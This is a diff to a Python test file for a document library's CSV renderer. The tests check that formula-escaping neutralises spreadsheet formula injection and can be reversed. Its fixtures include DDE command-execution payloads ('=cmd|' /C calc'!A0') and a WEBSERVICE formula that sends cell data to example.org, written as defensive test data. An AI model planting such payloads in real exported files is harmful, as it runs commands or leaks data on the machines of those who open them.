@@ -11,6 +11,7 @@ from pathlib import Path
 
 import pytest
 from hypothesis import given
+from hypothesis.strategies import sampled_from
 
 from docparse import (
     Document,
@@ -34,7 +35,9 @@ from docparse import (
     walk,
 )
 from docparse.renderers.csv import FILLED_CELLS, listing, ragged, tables, unescape_formula
-from tests.strategies import documents, texts
+from tests.attack.judge import csv_faults
+from tests.growth import growth
+from tests.strategies import documents, formula_tables, texts
 from tests.strategies import tables as any_table
 
 FARES = Table.from_rows([["Zone", "Fare"], ["A", "3"], ["B", "4"]], header_rows=1)
@@ -270,49 +273,137 @@ def test_a_wide_header_over_many_short_rows_stays_small() -> None:
 # --------------------------------------------------------------------------------- formulas
 
 RUN = [
+    # behind = anything is a formula, be it a wrong one
     "=1+1",
     "=cmd|' /C calc'!A0",
-    "@SUM(1)",
-    "+1-2",
-    "-1+2",
-    "-5 +cmd|' /C calc'!A0",
-    "-",
-    "+49 30 1234-5",
-    "\t=1",
-    "\tx",
-    "\rx",
-    "\nx",
+    "= Hall of fame",
+    "=>",
     " =1",
     "\u00a0\u200b=1",
     "\ufeff=1",
     '"=1"',
     " ' \"=1",
-    "'=1",
     "“=1”",
     "＝1",
+    # behind another sign, what has something to compute
+    "@SUM(1)",
+    "+SUM (A1)",
+    "-1+SUM( 1 ; 2 )",
+    "+1-2",
+    "-1+2",
+    "-5 +cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+49-30-1234",
+    "--5",
+    "-5/3",
+    "-5%*2",
+    "-1,5+2",
+    "-(1+2)",
+    "-A1",
+    "-$A$1",
+    "-B2:C3",
+    "-A:B",
+    "-1:2",
+    "+R1C1",
+    "+x+A1",
+    "-'my sheet'!B2",
+    "-[x.xlsx]S!B2",
+    '-"a"&"b"',
+    '-"a b"&WEBSERVICE("http://example.org/?"&A1)',
+    "+1\n+1",
+    " -1+1",
+    '"-A1"',
     "＋1+1",
-    "－a",
+    "－A1",
     "＠SUM(1)",
+    "＠ＳＵＭ（１）",
 ]
-KEPT = ["", "a", "a=1", "1-2", "'tis", "''", "5", "-5", "+3 %", "-1.234,50", "-1 234,5 ‰", "- 7"]
-KEPT += ["+1,000.00", "-.5", "－5", "'-5", "−5", "x@y.org", "|", "0\t="]
+KEPT = ["", "a", "a=1", "1-2", "'tis", "''", "5", "x@y.org", "|", "=", "0 =", "\tx", "\rx", "\nx"]
+KEPT += ["-", "--", " - ", "+", "@", "- -", "-5", "+3 %", "-1.234,50", "-1 234,5 ‰", "- 7", "－5"]
+KEPT += ["+1,000.00", "-.5", "-5.", "−5", "-1e-7", "-1E+10", "-5,00 €", "-$5.00", "-€5", "-5€"]
+KEPT += ["-5 kg", "-5 °C", "-5 to 3", "-5–3", "+49 30 1234-5", "+1 (555) 123-4567", "+1:08.250"]
+KEPT += ["@name", "@name said so", "- item", "-item", "- yes, no; or both", "--help", "-well-known"]
+KEPT += ["- don't", "-5 (of 7)", "- A1. Five", "-CH2(OH)CH3", "+/-5"]
+
+PARTS = [
+    ("x;=1+1", "x;'=1+1"),
+    ("x\t=1+1", "x\t'=1+1"),
+    ("x\n=1+1", "x\n'=1+1"),
+    ("x\r\n=1+1", "x\r\n'=1+1"),
+    ("\t=1", "\t'=1"),
+    ('x; "=1"', 'x;\' "=1"'),
+    ("x;-5;+A1;@SUM(1)", "x;-5;'+A1;'@SUM(1)"),
+    ("=1;=2", "'=1;'=2"),
+    ("-5\n+A1", "'-5\n'+A1"),
+    ("-IF(1;2)", "'-IF(1;2)"),
+    ("x;-5\t+A1", "x;'-5\t'+A1"),
+    ("x\t-5;+A1", "x\t-5;'+A1"),
+    ("x;=\ty", "x;'=\ty"),
+    ("x\n=", "x\n'="),
+    ("x, y;=", "x, y;'="),
+    ("x;=", "x;="),
+    ("x,=1", "x,=1"),
+    ("x =1 | =2", "x =1 | =2"),
+]
+"""Cells in which a spreadsheet with another separator than the comma finds several."""
+
+ROWS = [
+    (["-5", "3+cmd|' /C calc'!A0"], ["'-5", "3+cmd|' /C calc'!A0"]),
+    (["=", "1"], ["'=", "1"]),
+    (["x;-5", "3+A1"], ["x;'-5", "3+A1"]),
+    (["x;-5", "3", "3+A1;b"], ["x;'-5", "3", "3+A1;b"]),
+    (["x;-5", "3;3+A1"], ["x;-5", "3;3+A1"]),
+    (["a", "-5", "3+A1"], ["a", "-5", "3+A1"]),
+    (["-", "-", "5", "3"], ["-", "-", "5", "3"]),
+]
+"""Rows whose commas part nothing where another separator does: cells go on in the next one."""
+
+
+def escaped_row(row: list[str]) -> list[str]:
+    (written,) = read(render(Table.from_rows([row]), "csv", formulas="escape"))
+    return written
 
 
 def escape(text: str) -> str:
-    ((written,),) = read(render(Table.from_rows([[text]]), "csv", formulas="escape"))
-    return written
+    """Return what is written of ``text`` in a cell after another one."""
+    return escaped_row(["a", text])[1]
 
 
 @pytest.mark.parametrize("text", RUN)
 def test_what_a_spreadsheet_would_run_gets_a_quote_in_front(text: str) -> None:
-    assert escape(text) == "'" + text
-    assert unescape_formula("'" + text) == text
+    assert escape(text)[:1] == "'"
+    assert escape(text).replace("\n'", "\n") == "'" + text
+    assert unescape_formula(escape(text)) == text
 
 
 @pytest.mark.parametrize("text", KEPT)
-def test_numbers_and_text_stay(text: str) -> None:
+def test_values_and_text_stay(text: str) -> None:
     assert escape(text) == text
     assert unescape_formula(text) == text
+
+
+@pytest.mark.parametrize(("text", "escaped"), PARTS)
+def test_what_any_separator_would_make_a_cell_is_looked_at(text: str, escaped: str) -> None:
+    assert escape(text) == escaped
+    assert unescape_formula(escaped) == text
+
+
+@pytest.mark.parametrize(("row", "escaped"), ROWS)
+def test_a_cell_may_go_on_in_the_next(row: list[str], escaped: list[str]) -> None:
+    assert escaped_row(row) == escaped
+    assert list(map(unescape_formula, escaped)) == row
+
+
+@pytest.mark.parametrize("text", ["sep=|", " SEP=;", "\ufeffsep=|"])
+def test_the_first_cell_names_no_separator(text: str) -> None:
+    table = Table.from_rows([[text], ["a|=1"], [text]])
+    assert read(render(table, "csv", formulas="escape")) == [["'" + text], ["a|=1"], [text]]
+
+
+@pytest.mark.parametrize("text", ["'=1", "'-5", "'sep=|", "''=1", "x;'-"])
+def test_a_quote_before_a_sign_gets_one_more(text: str) -> None:
+    assert escape(text) == text.replace("'", "''", 1)
+    assert unescape_formula(escape(text)) == text
 
 
 @pytest.mark.parametrize("text", [*RUN, *KEPT])
@@ -329,6 +420,34 @@ def test_the_escape_is_reversible(text: str) -> None:
     is_reversible(text, unescape_formula)
 
 
+@given(any_table(clean=False), sampled_from(["", "x;", "'", "'x;", "\t'", "\n"]))
+def test_the_escape_of_a_table_is_reversible(table: Table, start: str) -> None:
+    rows = [[start + writable(cell) for cell in row.cells] for row in table.rows]
+    written = read(render(Table.from_rows(rows), "csv", formulas="escape"))
+    kept = read(render(Table.from_rows(rows), "csv"))
+    assert [list(map(unescape_formula, row)) for row in written] == kept
+
+
+@pytest.mark.parametrize(
+    "piece", [";-", ";-x", "\n-x", "\t-1;", "=", "-(x,", '-x "', "-x '", "-x [", " ", ";'", "\t"]
+)
+def test_escaping_takes_time_in_proportion(piece: str) -> None:
+    def long_cell(count: int) -> Table:
+        return Table.from_rows([[piece * count, "x"]])
+
+    def long_row(count: int) -> Table:
+        return Table.from_rows([[piece] * count])
+
+    for make in (long_cell, long_row):
+        assert growth(lambda table: render(table, "csv", formulas="escape"), make, 100) < 5
+
+
+@given(formula_tables())
+def test_nothing_runs_with_any_separator(table: Table) -> None:
+    kept, escaped = write(table), render(table, "csv", formulas="escape")
+    assert list(csv_faults(kept, escaped)) == []
+
+
 @pytest.mark.parametrize("text", [quotes + text for quotes in ("", "'", "''") for text in RUN])
 def test_the_escape_of_an_escape_is_reversible(text: str) -> None:
     is_reversible(text, unescape_formula)
@@ -339,6 +458,7 @@ def test_the_escape_of_an_escape_is_reversible(text: str) -> None:
     [
         (lambda cell: cell.lstrip("'"), "'=1"),
         (lambda cell: cell[1:] if cell[:1] == "'" else cell, "'tis"),
+        (lambda cell: cell[1:] if cell[:1] == "'" else cell, "x;=1"),
         (lambda cell: cell[1:] if cell[:2] == "'=" else cell, "@SUM(1)"),
     ],
 )
